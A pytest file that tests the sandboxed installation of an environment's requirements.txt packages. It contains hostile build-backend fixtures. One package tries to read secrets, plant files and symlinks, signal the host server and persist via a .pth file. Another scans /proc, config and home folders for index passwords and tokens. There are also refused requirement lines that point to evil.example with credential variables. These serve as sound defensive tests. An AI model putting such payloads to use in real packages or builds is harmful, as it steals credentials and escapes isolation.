"""Environments that bring a requirements.txt: real installs of small packages, real processes."""

import asyncio
import base64
import fcntl
import io
import json
import os
import socket
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import psutil
import pytest

from environments.faults import EnvironmentFault, remedy
from environments.process import requirements
from environments.process.host import EnvironmentHost
from environments.sandbox import kernel
from environments.settings import machine_directory
from tests.folders import allow, environment_folder

pytestmark = pytest.mark.slow
SMALL = "six==1.17.0\n"


def folder_with(tmp_path: Path, wanted: str, source: str = "", returns: str = "Addition()") -> Path:
    folder = environment_folder(tmp_path / "environment", source, returns=returns)
    (folder / "requirements.txt").write_text(wanted)
    return folder


def names_in(interpreters: Path) -> set[str]:
    """What lies in the folders of all interpreters."""
    return {path.name for path in interpreters.glob("*/*")}


def started(*commands: tuple[str, ...]) -> list[subprocess.Popen[str]]:
    return [subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for command in commands]


async def fault_of(folder: Path, **options: float) -> EnvironmentFault:
    with pytest.raises(EnvironmentFault) as caught:
        await requirements.interpreter(folder, **options)
    return caught.value


async def test_an_environment_runs_with_its_own_packages_and_with_nothing_of_ours(tmp_path: Path, flash_home: Path):
    source = """
        import importlib.util
        import six
        class Sample(Addition):
            def build_prompt_messages(self, example):
                ours = [name for name in ("pydantic", "flash_mcp", "torch") if importlib.util.find_spec(name)]
                return [{"role": "user", "content": f"{six.__version__} {ours} {sys.prefix}"}]
    """
    told: list[str] = []

    async def on_progress(message: str) -> None:
        told.append(message)

    folder = folder_with(tmp_path, f"# the only one\n{SMALL}", source, returns="Sample()")
    async with await EnvironmentHost.start(folder, on_progress=on_progress) as host:
        shown = (await host.open("train", 0)).messages[0]["content"]
    target = (await requirements.interpreter(folder)).parents[2]
    assert shown == f"1.17.0 [] {target / 'venv'}" and (target / "ready").read_text() == SMALL
    assert told and all(message.startswith("installing the environment's packages: ") for message in told)

    told.clear()
    async with await EnvironmentHost.start(folder, on_progress=on_progress):
        assert not told  # installed once


async def test_a_folder_without_requirements_runs_with_our_own_interpreter(tmp_path: Path, flash_home: Path) -> None:
    folder = folder_with(tmp_path, "  # nothing\n\n")
    assert await requirements.interpreter(folder) == Path(sys.executable)
    assert not (flash_home / "interpreters").exists()


async def test_what_the_resolver_said_last_is_in_the_error_and_nothing_half_made_stays(tmp_path, flash_home: Path):
    fault = await fault_of(folder_with(tmp_path, "six==1.17.0\nsix==1.16.0\n"))
    assert fault.code == "requirements_failed" and "six==1.16.0, six==1.17.0" in fault.what
    assert "unsatisfiable" in fault.what and names_in(flash_home / "interpreters") == {"lock", "requirements.txt"}


async def test_a_line_that_goes_on_in_the_next_is_one(tmp_path: Path) -> None:
    hashes = "six==1.17.0 \\\n --hash=sha256:11 \\\n --hash=sha256:00\n"
    folder = folder_with(tmp_path, f"zlib==1\n{hashes}  # via one\nattrs # x\n")
    assert requirements.of_folder(folder) == ["attrs", "six==1.17.0  --hash=sha256:11  --hash=sha256:00", "zlib==1"]
    (folder / "requirements.txt").write_text("six\nattrs\n-\\\nr more.txt\n")
    assert "requirements.txt line 3: '-r more.txt'" in (await fault_of(folder)).what


async def test_a_pyproject_is_read_where_there_is_no_requirements_txt(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "mine"\ndependencies = ["six==1.17.0", "flash-mcp", "attrs >= 20"]\n'
    )
    assert requirements.of_folder(tmp_path) == ["attrs >= 20", "six==1.17.0"]
    (tmp_path / "requirements.txt").write_text("six\n")
    assert requirements.of_folder(tmp_path) == ["six"]


@pytest.mark.parametrize("text", ["[project", "project = 1", "[project]\ndependencies = 3"])
async def test_a_pyproject_that_cannot_be_read_is_an_error(tmp_path: Path, text: str) -> None:
    (tmp_path / "pyproject.toml").write_text(text)
    with pytest.raises(EnvironmentFault, match=r"pyproject\.toml cannot be read") as raised:
        requirements.of_folder(tmp_path)
    assert raised.value.code == "requirements_failed"


@pytest.mark.parametrize("line", ["-r more.txt", "-e .", "./wheels/one.whl", "--constraint c.txt", "one @ file:one"])
async def test_a_line_that_refers_to_other_files_is_refused(line: str, tmp_path: Path) -> None:
    fault = await fault_of(folder_with(tmp_path, f"six\n{line}\n"))
    assert (fault.code, f"requirements.txt line 2: {line!r}" in fault.what) == ("requirements_failed", True)


@pytest.mark.hostile("builds")
@pytest.mark.parametrize(
    "line",
    [
        "--no-binary attacker", "--no-build-isolation", "--config-settings a=b", "--trusted-host evil.example",
        "one @ https://evil.example/${UV_INDEX_TEAM_PASSWORD}/one-1-py3-none-any.whl",
        "--extra-index-url https://evil.example/${UV_DEFAULT_INDEX}",
    ],
)  # fmt: skip
async def test_a_line_that_allows_builds_or_reads_a_variable_is_refused(line: str, tmp_path: Path) -> None:
    fault = await fault_of(folder_with(tmp_path, f"six\n{line}\n"))
    assert fault.code == "requirements_failed"
    assert f"requirements.txt line 2: {line!r:.100} has an option or a variable" in fault.what
    options = "--index-url https://a.example/simple\n-f https://b.example\n--pre\nsix\n"
    (tmp_path / "environment" / "requirements.txt").write_text(options)
    assert len(requirements.of_folder(tmp_path / "environment")) == 4


async def test_who_has_no_time_left_is_told_so_and_finds_it_done_later(tmp_path: Path) -> None:
    folder = folder_with(tmp_path, SMALL)
    assert (await fault_of(folder, timeout_s=0)).code == "not_ready"
    assert len(requirements._installers) == 1  # pyright: ignore[reportPrivateUsage]
    assert (await requirements.interpreter(folder)).is_file()
    assert not requirements._installers  # pyright: ignore[reportPrivateUsage]


async def test_two_processes_at_once_both_get_the_interpreter_after_one_that_was_killed(tmp_path, flash_home: Path):
    folder = folder_with(tmp_path, SMALL)
    assert (await fault_of(folder, timeout_s=0)).code == "not_ready"
    [(target, (installer, _))] = requirements._installers.items()  # pyright: ignore[reportPrivateUsage]
    os.killpg(installer.pid, 9)
    installer.wait()
    del requirements._installers[target]  # pyright: ignore[reportPrivateUsage]
    (target / "ready").unlink(missing_ok=True)
    (target / "venv" / "left-over").mkdir(parents=True, exist_ok=True)

    code = f"""
        import asyncio
        from pathlib import Path
        from environments.process import requirements
        async def told(message):
            print(message)
        print(asyncio.run(requirements.interpreter(Path({str(folder)!r}), on_progress=told)))
    """
    command = (sys.executable, "-c", textwrap.dedent(code))
    with (target / "lock").open("a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # both meet somebody who installs; then there are two of them
        both = started(command, command)
        for process in both:
            assert process.stdout and "another process installs the same packages" in await asyncio.to_thread(
                lambda stdout: next(line for line in stdout if "starting" not in line), process.stdout
            )
    outputs = await asyncio.gather(*(asyncio.to_thread(process.communicate) for process in both))
    assert [process.returncode for process in both] == [0, 0]
    assert [output.splitlines()[-1] for output, _ in outputs] == [str(target / "venv" / "bin" / "python")] * 2
    assert not (target / "venv" / "left-over").exists()
    assert names_in(flash_home / "interpreters") == {"lock", "ready", "requirements.txt", "venv"}


# What a package does when it is built, and once more whenever an interpreter that has it starts
# (attacker.pth).
ATTACKER = """
import errno, os, socket, subprocess, zipfile
from pathlib import Path
def tried(action):
    try:
        action()
    except OSError as error:
        return errno.errorcode[error.errno]
    return "done"
def listed(home):
    if "secret" not in os.listdir(home):  # only the way to its own folders is there
        raise OSError(errno.ENOENT, "no secret")
def attack():
    home = Path(HOME)
    target = home / "interpreters" / Path(__file__).relative_to(home / "interpreters").parts[0]
    return {
        "read": tried((home / "secret").read_text),
        "list": tried(lambda: listed(home)),
        "write": tried(lambda: (home / "planted").write_text("")),
        "write elsewhere": tried(lambda: Path(HOME + "-beside").write_text("")),
        "plant a link that the server follows": tried(lambda: (target / ".requirements.txt.1").symlink_to("/")),
        "hold the lock": tried(lambda: (target / "lock").unlink()),
        "look at the server": tried(Path("/proc", str(SERVER), "environ").read_bytes),
        "signal the server": tried(lambda: os.kill(SERVER, 0)),
        "reach a socket of the user": tried(lambda: socket.socket(socket.AF_UNIX).connect(SOCKET)),
    }
def powers():
    status = Path("/proc/self/status").read_text()
    return int(status.partition("CapEff:")[2].split()[0], 16)
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    subprocess.Popen(["sleep", "4321"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    source = f"AT_BUILD = {attack()!r}\\nPOWERS = {powers()}\\n"
    source += Path(__file__).read_text() + "\\nAT_START = attack()\\n"
    info = "attacker-1.dist-info/"
    with zipfile.ZipFile(Path(wheel_directory, "attacker-1-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("attacker.py", source)
        wheel.writestr("attacker.pth", "import attacker\\n")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: attacker\\nVersion: 1\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return "attacker-1-py3-none-any.whl"
"""


@pytest.fixture
def attacker(tmp_path: Path, flash_home: Path) -> Iterator[Path]:
    """A folder with the source of ATTACKER's package; what it is after is in place."""
    flash_home.mkdir()
    (flash_home / "secret").write_text("planted")
    with tempfile.TemporaryDirectory() as folder, socket.socket(socket.AF_UNIX) as listener:
        address = f"{folder}/private.sock"
        listener.bind(address)
        Path(address).chmod(0o600)
        listener.listen()
        places = f"HOME, SERVER, SOCKET = {str(flash_home)!r}, {os.getpid()}, {address!r}\n"
        yield source_package(tmp_path / "packages", places + ATTACKER)


def source_package(folder: Path, backend: str) -> Path:
    """A folder with attacker-1.tar.gz, which has no wheel."""
    folder.mkdir()
    project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    project += '[project]\nname = "attacker"\nversion = "1"\n'
    with tarfile.open(folder / "attacker-1.tar.gz", "w:gz") as archive:
        for name, text in (("pyproject.toml", project), ("backend.py", backend)):
            member = tarfile.TarInfo(f"attacker-1/{name}")
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))
    return folder


@pytest.mark.hostile("builds")
@pytest.mark.linux
async def test_a_packages_build_and_its_start_up_code_stand_behind_the_walls(
    tmp_path: Path, flash_home: Path, attacker: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("UV_FIND_LINKS", str(attacker))
    monkeypatch.setenv("UV_OFFLINE", "1")
    allow(flash_home, 'build_from_source = ["attacker"]')
    source = """
        import json
        import attacker
        class Sample(Addition):
            def build_prompt_messages(self, example):
                told = [attacker.AT_BUILD, attacker.AT_START, attacker.POWERS]
                return [{"role": "user", "content": json.dumps(told)}]
    """
    async with await EnvironmentHost.start(folder_with(tmp_path, "attacker\n", source, returns="Sample()")) as host:
        *both, powers = json.loads((await host.open("train", 0)).messages[0]["content"])
        for found in both:
            # In a PID namespace there is no server to look at.
            absent = {found.pop("look at the server"), found.pop("signal the server")}
            assert absent <= {"EACCES", "EPERM", "ENOENT", "ESRCH"}, absent
            assert len(found) == 7 and set(found.values()) <= {"EACCES", "ENOENT", "EPERM", "EROFS"}, found
        assert powers & ~(1 << kernel.CAP_DAC_READ_SEARCH) == 0, "a build may read, and no more"
    assert ["sleep", "4321"] not in [process.info["cmdline"] for process in psutil.process_iter(["cmdline"])]


@pytest.mark.hostile("builds")
async def test_a_package_without_a_wheel_is_not_built_unless_the_operator_allows_it(tmp_path, attacker, monkeypatch):
    monkeypatch.setenv("UV_FIND_LINKS", str(attacker))
    monkeypatch.setenv("UV_OFFLINE", "1")
    fault = await fault_of(folder_with(tmp_path, "attacker\n"))
    assert fault.code == "requirements_failed" and "attacker" in fault.what
    fix = remedy(fault)
    assert fix is not None and fix.startswith("attacker has no wheel for this Python")
    assert 'settings.toml: [environments] build_from_source = ["attacker"]' in fix


def test_only_the_versions_that_this_package_chose_are_built_without_leave(flash_home: Path) -> None:
    target = flash_home / "interpreters" / "0"
    target.mkdir(parents=True)
    (target / requirements.FILE).write_text("\n".join(requirements.REASONING_GYM) + "\n")
    assert requirements.may_build(target) == ("cellpylib", "pycosat", "zss")
    for lines in (["cellpylib"], [*requirements.REASONING_GYM, "attacker"], requirements.REASONING_GYM[:3]):
        (target / requirements.FILE).write_text("\n".join(lines))
        assert requirements.may_build(target) == ()
    allow(flash_home, 'build_from_source = ["attacker"]')
    assert requirements.may_build(target) == ("attacker",)


async def test_a_project_around_the_state_directory_does_not_matter(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "mine"\nversion = "1"\n')
    python = await requirements.interpreter(folder_with(tmp_path, SMALL))
    assert (python.parents[2] / "ready").read_text() == SMALL


# What the build of a package looks for: passwords of indexes, tokens for uploads, our variables.
SPY = """
import os, zipfile
from pathlib import Path
def texts():
    yield repr(dict(os.environ))
    for place in ("/proc", CONFIG, HOME):
        for folder, folders, files in os.walk(place):
            # A folder named lib holds packages, too many to read.
            folders[:] = [
                name for name in folders
                if (name.isdecimal() or name in ("fd", "task") if place == "/proc" else name != "lib")
            ]
            for name in files:
                if place != "/proc" or name in ("environ", "cmdline") or "/fd" in folder:
                    try:  # a pipe must not block it
                        file = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
                        yield os.pread(file, 100_000, 0).decode(errors="replace")
                        os.close(file)
                    except OSError:
                        pass
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    everything = "".join(texts())
    found = [word for word in WORDS if word[::-1] in everything]
    info = "attacker-1.dist-info/"
    with zipfile.ZipFile(Path(wheel_directory, "attacker-1-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("attacker.py", f"FOUND = {found!r}; SEEN = {len(everything)}")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: attacker\\nVersion: 1\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return "attacker-1-py3-none-any.whl"
"""


class PrivateIndex(BaseHTTPRequestHandler):
    """An index with one wheel, for those who know the password."""

    wheel = b""
    asked: ClassVar[list[str]] = []

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:
        self.asked.append(self.path)
        password = base64.b64encode(b"reader:planted-index").decode()
        if self.headers.get("Authorization") != f"Basic {password}":
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="packages"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        link = '<a href="/files/private-1-py3-none-any.whl">private-1-py3-none-any.whl</a>'
        body = self.wheel if self.path.endswith(".whl") else link.encode()
        is_there = "private" in self.path
        self.send_response(200 if is_there else 404)
        kind = "application/octet-stream" if self.path.endswith(".whl") else "text/html"
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Print nothing."""


def wheel_of(name: str, requires: str = "") -> bytes:
    """The wheel of version 1 of a package with one module."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as wheel:
        info = f"{name}-1.dist-info/"
        wheel.writestr(f"{name}.py", "ANSWER = 42")
        wheel.writestr(info + "METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n{requires}")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "RECORD", "")
    return stream.getvalue()


async def test_what_another_package_requires_is_built_if_the_operator_allows_it(
    tmp_path: Path, flash_home: Path, attacker: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (attacker / "needy-1-py3-none-any.whl").write_bytes(wheel_of("needy", "Requires-Dist: attacker\n"))
    monkeypatch.setenv("UV_FIND_LINKS", str(attacker))
    monkeypatch.setenv("UV_OFFLINE", "1")
    allow(flash_home, 'build_from_source = ["attacker"]')
    python = await requirements.interpreter(folder_with(tmp_path, "needy\n"))
    assert (python.parents[2] / "ready").read_text() == "attacker==1\nneedy==1\n"


@pytest.fixture
def private_index() -> Iterator[str]:
    """The address of an index, with the password."""
    PrivateIndex.wheel = wheel_of("private")
    PrivateIndex.asked.clear()
    with ThreadingHTTPServer(("127.0.0.1", 0), PrivateIndex) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://reader:planted-index@127.0.0.1:{server.server_port}/simple"
        server.shutdown()


@pytest.mark.hostile("builds")
@pytest.mark.parametrize("place", ["a variable", "a settings file"])
async def test_a_build_sees_no_password_of_an_index(tmp_path, flash_home, private_index: str, monkeypatch, place: str):
    config = tmp_path / "config"
    (config / "uv").mkdir(parents=True)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    for name in ("UV_INDEX_URL", "UV_INDEX", "UV_EXTRA_INDEX_URL", "UV_OFFLINE", "UV_FIND_LINKS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.delenv("UV_DEFAULT_INDEX", raising=False)
    if place == "a variable":
        monkeypatch.setenv("UV_DEFAULT_INDEX", private_index)
    else:
        (config / "uv" / "uv.toml").write_text(f'[[index]]\nurl = "{private_index}"\ndefault = true\n')
    monkeypatch.setenv("UV_PUBLISH_TOKEN", "planted-upload")
    monkeypatch.setenv("FLASH_TOKEN", "planted-flash")
    monkeypatch.setenv("SERVICE_KEY", "planted-secret")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    # Spelt backwards, so that the build does not find them in its own source.
    words = [word[::-1] for word in ("planted-index", "planted-upload", "planted-flash")]
    words.append("planted-secret"[::-1])
    head = f"CONFIG, HOME, WORDS = {str(config)!r}, {str(Path.home())!r}, {words!r}\n"
    monkeypatch.setenv("UV_FIND_LINKS", str(source_package(tmp_path / "packages", head + SPY)))
    allow(flash_home, 'build_from_source = ["Attacker"]')
    source = """
        import attacker, private
        class Sample(Addition):
            def build_prompt_messages(self, example):
                told = f"{attacker.FOUND} {attacker.SEEN > 1000} {private.ANSWER}"
                return [{"role": "user", "content": told}]
    """
    folder = folder_with(tmp_path, "attacker\nprivate\n", source, returns="Sample()")
    async with await EnvironmentHost.start(folder, secrets={"SERVICE_KEY": "planted-secret"}) as host:
        assert (await host.open("train", 0)).messages[0]["content"] == "[] True 42"


def interpreter_of(home: Path, name: str, kib: int, used: float) -> Path:
    """What an installer leaves, without the packages."""
    target = home / "interpreters" / name
    (target / "venv" / "bin").mkdir(parents=True)
    (target / "venv" / "packages").write_bytes(b"x" * (kib << 10))
    for file in ("ready", "lock", "used"):
        (target / file).touch()
        os.utime(target / file, (used, used))
    return target


def test_interpreters_that_nobody_used_for_long_make_room_for_others(flash_home: Path) -> None:
    allow(flash_home, "interpreters_gib = 0.001")
    oldest, old, held = (
        interpreter_of(flash_home, name, 500, used)
        for name, used in (("oldest", 1000.0), ("old", 3000.0), ("held", 2000.0))
    )
    assert requirements._bytes_in(requirements.interpreters_dir()) >= 1500 << 10
    new = flash_home / "interpreters" / "new"
    with requirements.hold(held / "venv" / "bin" / "python") or io.StringIO():
        os.utime(held / "used", (2000, 2000))
        assert requirements._make_room(new) == ""  # pyright: ignore[reportPrivateUsage]
        assert [each.is_dir() for each in (oldest / "venv", held / "venv", old / "venv")] == [False, True, True]
        assert not (oldest / "ready").exists()
        allow(flash_home, "interpreters_gib = 0.0001")
        why = requirements._make_room(new)  # pyright: ignore[reportPrivateUsage]
        assert "settings.toml allows 0.0001 GiB: [environments] interpreters_gib" in why
        assert (held / "ready").exists() and not (old / "ready").exists()
    assert requirements._make_room(new) == ""  # pyright: ignore[reportPrivateUsage]
    assert not (held / "ready").exists()


@pytest.mark.parametrize("node", ["", "node1"])
async def test_an_installation_without_room_says_who_may_change_it(tmp_path, flash_home: Path, monkeypatch, node: str):
    monkeypatch.setenv("FLASH_MACHINE", node)
    allow(flash_home, "interpreters_gib = 0.0001")
    held = interpreter_of(machine_directory(), "held", 500, 1000.0)
    with requirements.hold(held / "venv" / "bin" / "python") or io.StringIO():
        fault = await fault_of(folder_with(tmp_path, SMALL))
    assert fault.code == "requirements_failed" and "[environments] interpreters_gib" in fault.what
